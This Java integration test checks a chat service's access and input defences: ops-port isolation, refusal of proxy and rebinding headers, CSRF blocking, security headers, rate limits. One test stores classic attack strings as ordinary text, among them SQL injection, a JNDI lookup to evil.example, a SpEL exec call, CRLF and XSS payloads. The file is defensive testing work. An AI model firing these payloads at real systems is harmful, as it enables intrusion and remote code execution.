package io.walcast.app.access;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStream;
import java.io.InputStreamReader;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** Where everyone is believed: operations are for this machine, and what users wrote stays data. */
class HeaderModeIT {

    private static final int OPS_PORT = WholeWalcast.freePort();
    private static WholeWalcast walcast;

    @BeforeAll
    static void start() {
        walcast = new WholeWalcast(Map.of(
                "walcast.ops.port", OPS_PORT,
                "walcast.limits.writes-per-second", 1,
                "walcast.limits.write-burst", 50));
    }

    @AfterAll
    static void stop() {
        walcast.close();
    }

    @Test
    void operationsAreServedOnTheirPortOnly() throws IOException {
        for (String path : List.of("/ops/parked", "/actuator/prometheus", "/actuator")) {
            assertThat(get(OPS_PORT, path)).as(path).startsWith("HTTP/1.1 200");
            assertThat(get(walcast.port(), path)).as(path).startsWith("HTTP/1.1 404");
        }
        assertThat(get(OPS_PORT, "/problems")).startsWith("HTTP/1.1 404");
        assertThat(get(OPS_PORT, "/walcast.js")).startsWith("HTTP/1.1 404");
        for (int port : new int[] {OPS_PORT, walcast.port()}) {
            // Another test may have asked for a sweep.
            Awaitility.await()
                    .untilAsserted(() -> assertThat(get(port, "/actuator/health/readiness"))
                            .startsWith("HTTP/1.1 200")
                            .contains("\r\n{\"status\":\"UP\"}\r\n"));
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "X-Forwarded-For: 127.0.0.1",
                "x-forwarded-host: localhost",
                "X-Forwarded-Proto: https",
                "Forwarded: for=127.0.0.1",
                "X-Real-IP: 127.0.0.1",
                "Via: 1.1 proxy"
            })
    void operationsAreNotForWhoComesThroughAProxy(String header) throws IOException {
        for (String path :
                List.of("/ops/parked", "/actuator/health", "//ops/parked", "/ops;x/parked", "/%6fps/parked")) {
            String answer = get(OPS_PORT, path, header);
            assertThat(answer).as(path).doesNotStartWith("HTTP/1.1 200").doesNotStartWith("HTTP/1.1 5");
        }
        assertThat(get(OPS_PORT, "/ops/parked", header)).startsWith("HTTP/1.1 403");
        assertThat(get(OPS_PORT, "/actuator/health/liveness", header)).startsWith("HTTP/1.1 200");
    }

    /** As a proxy does that was told nothing but where to go. */
    @Test
    void operationsAreNotForWhoSpeaksHttp10() throws IOException {
        String rest = " HTTP/1.0\r\nHost: 127.0.0.1:" + OPS_PORT + "\r\nConnection: close\r\n\r\n";
        assertThat(request(OPS_PORT, "GET /ops/parked" + rest)).contains(" 403 ");
        assertThat(request(OPS_PORT, "GET /actuator/prometheus" + rest)).contains(" 403 ");
        assertThat(request(OPS_PORT, "GET /actuator/health/liveness" + rest)).contains(" 200 ");
    }

    @ParameterizedTest
    @ValueSource(strings = {"rebound.example", "localhost.example", "127.0.0.1.example", "10.0.0.1"})
    void nothingIsForWhoCallsThisMachineByAnotherName(String host) throws IOException {
        String rest = " HTTP/1.1\r\nHost: " + host + ":3000\r\nOrigin: http://" + host
                + ":3000\r\nX-User-Id: u1\r\nConnection: close\r\n\r\n";
        assertThat(request(OPS_PORT, "GET /ops/parked" + rest)).startsWith("HTTP/1.1 403");
        for (String path : List.of("/conversations", "/ws", "/socket.io/?EIO=4&transport=polling", "/")) {
            assertThat(request(walcast.port(), "GET " + path + rest)).as(path).startsWith("HTTP/1.1 403");
        }
    }

    /** A proxy may have added its own to the client's. */
    @Test
    void twoHeadersThatNameAUserAreRefusedAlikeByRestAndWebSocket() throws IOException {
        String two = "\r\nX-User-Id: u1\r\nX-User-Id: u2\r\n";
        String rest = " HTTP/1.1\r\nHost: localhost\r\nConnection: close" + two + "\r\n";
        assertThat(request(walcast.port(), "GET /conversations" + rest))
                .startsWith("HTTP/1.1 400")
                .contains("X-User-Id", "must be given once");
        String upgrade = " HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket"
                + "\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==" + two + "\r\n";
        assertThat(statusLine(walcast.port(), "GET /ws" + upgrade)).startsWith("HTTP/1.1 401");
        assertThat(statusLine(walcast.port(), "GET /ws" + upgrade.replace("\r\nX-User-Id: u2", "")))
                .startsWith("HTTP/1.1 101");
    }

    @Test
    void pagesOfOtherSitesCannotOperate() throws IOException {
        for (String header : List.of(
                "Origin: https://evil.example",
                "Origin: null",
                "Sec-Fetch-Site: cross-site",
                "Sec-Fetch-Site: same-site",
                "Origin: http://localhost:1")) {
            assertThat(post("/ops/sweep", "Content-Type: application/json", header))
                    .as(header)
                    .startsWith("HTTP/1.1 403");
        }
        assertThat(post("/ops/sweep", "Content-Type: text/plain")).startsWith("HTTP/1.1 415");
        assertThat(post("/ops/sweep", "Content-Type: application/x-www-form-urlencoded"))
                .startsWith("HTTP/1.1 415");
        assertThat(post(
                        "/ops/sweep",
                        "Content-Type: application/json",
                        "Origin: http://localhost:" + OPS_PORT,
                        "Sec-Fetch-Site: same-origin"))
                .startsWith("HTTP/1.1 202");
    }

    @ParameterizedTest
    @ValueSource(strings = {"/", "/index.html", "/api", "/swagger-ui/index.html", "/problems", "/nothing-here"})
    void pagesAreStrict(String path) throws IOException {
        String answer = get(walcast.port(), path);
        assertThat(answer)
                .containsIgnoringCase("Content-Security-Policy: default-src 'none'; script-src 'self';")
                .containsIgnoringCase("frame-ancestors 'none'")
                .containsIgnoringCase("X-Content-Type-Options: nosniff")
                .containsIgnoringCase("Referrer-Policy: no-referrer");
    }

    @Test
    void aUserWhoWritesTooMuchIsToldWhenToComeBack() {
        String body = "{\"members\":[]}";
        for (int i = 0; i < 60; i++) {
            var answer = as("eager", "POST", "/conversations", body);
            if (answer.statusCode() == 429) {
                assertThat(answer.headers().firstValue("Retry-After")).hasValue("1");
                assertThat(JsonMapper.shared()
                                .readTree(answer.body())
                                .path("code")
                                .asString())
                        .isEqualTo("too_many_requests");
                assertThat(as("patient", "POST", "/conversations", body).statusCode())
                        .isEqualTo(201);
                return;
            }
            assertThat(answer.statusCode()).isEqualTo(201);
        }
        throw new AssertionError("60 writes at once were let through");
    }

    @Test
    void requestsWithHugeHeadersAreRefused() throws IOException {
        assertThat(get(walcast.port(), "/conversations", "X-User-Id: u1", "X-Huge: " + "x".repeat(100_000)))
                .startsWith("HTTP/1.1 400")
                .doesNotContain("Exception");
    }

    /** Every one of these is an attack somewhere, and nothing but text here. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "'; drop table messages; --",
                "\" or \"\"=\"",
                "$$; select pg_sleep(10); $$",
                "${jndi:ldap://evil.example/x}",
                "#{T(java.lang.Runtime).getRuntime().exec('id')}",
                "one\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
                "\u001b[2J\u001b[31mred",
                "<img src=x onerror=alert(1)>",
                "%00%0d%0a..%2f..%2f",
                "\u202eevil\u2066",
                "{{7*7}} %s %n %x",
                "\\u0027\\x00 :param ? $1"
            })
    void whatUsersWriteIsStoredAndReturnedAsData(String text) {
        String json = JsonMapper.shared().writeValueAsString(text);
        var conversation =
                read(as("writer", "POST", "/conversations", "{\"title\":%s,\"members\":[]}".formatted(json)));
        assertThat(conversation.path("title").asString()).isEqualTo(text);
        String id = conversation.path("id").asString();
        try (var wire = Wire.json(walcast.port(), "X-User-Id", "writer")) {
            wire.ask("join.conversation", "{\"conversationId\":\"%s\"}".formatted(id));
            var message = read(as(
                    "writer",
                    "POST",
                    "/messages",
                    "{\"conversationId\":\"%s\",\"type\":\"TEXT\",\"content\":%s}".formatted(id, json)));
            assertThat(message.path("content").asString()).isEqualTo(text);
            var heard = JsonMapper.shared().readTree(wire.await("message.created"));
            assertThat(heard.path("data").path("message").path("content").asString())
                    .isEqualTo(text);
            // As the name of an event it is an error, and not an event.
            assertThat(wire.ask("x", json).path("error").path("code").asString())
                    .isEqualTo("bad_request");
        }
        var history = read(as("writer", "GET", "/conversations/" + id + "/messages", null));
        assertThat(history.path(0).path("content").asString()).isEqualTo(text);
    }

    private static JsonNode read(java.net.http.HttpResponse<String> answer) {
        assertThat(answer.statusCode()).as(answer.body()).isLessThan(300);
        return JsonMapper.shared().readTree(answer.body());
    }

    private static java.net.http.HttpResponse<String> as(
            String user, String method, String path, @org.jspecify.annotations.Nullable String body) {
        return walcast.send(method, path, body, request -> request.header("X-User-Id", user));
    }

    private static String get(int port, String path, String... headers) throws IOException {
        return request(
                port,
                "GET " + path + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n" + lines(headers) + "\r\n");
    }

    private static String post(String path, String... headers) throws IOException {
        return request(
                OPS_PORT,
                "POST " + path + " HTTP/1.1\r\nHost: localhost:" + OPS_PORT
                        + "\r\nConnection: close\r\nContent-Length: 2\r\n" + lines(headers) + "\r\n{}");
    }

    private static String lines(String... headers) {
        return headers.length == 0 ? "" : String.join("\r\n", headers) + "\r\n";
    }

    private static String statusLine(int port, String text) throws IOException {
        try (var socket = new Socket("127.0.0.1", port)) {
            socket.setSoTimeout(20_000);
            socket.getOutputStream().write(text.getBytes(StandardCharsets.UTF_8));
            return String.valueOf(
                    new BufferedReader(new InputStreamReader(socket.getInputStream(), StandardCharsets.UTF_8))
                            .readLine());
        }
    }

    private static String request(int port, String text) throws IOException {
        try (var socket = new Socket("127.0.0.1", port)) {
            socket.setSoTimeout(20_000);
            socket.getOutputStream().write(text.getBytes(StandardCharsets.UTF_8));
            InputStream in = socket.getInputStream();
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        }
    }
}
